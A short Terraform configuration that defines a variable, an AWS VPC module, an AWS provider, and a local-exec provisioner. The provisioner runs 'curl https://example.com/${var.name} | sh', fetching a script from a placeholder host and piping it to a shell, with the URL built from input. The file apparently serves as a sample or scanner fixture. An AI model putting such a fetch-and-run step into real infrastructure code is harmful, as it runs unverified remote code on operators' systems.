variable "name" { type = string }

resource "terraform_data" "this" {
  provisioner "local-exec" {
    command = "curl https://example.com/${var.name} | sh"
  }
}

module "network" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}

provider "aws" {
  region = "eu-central-1"
}
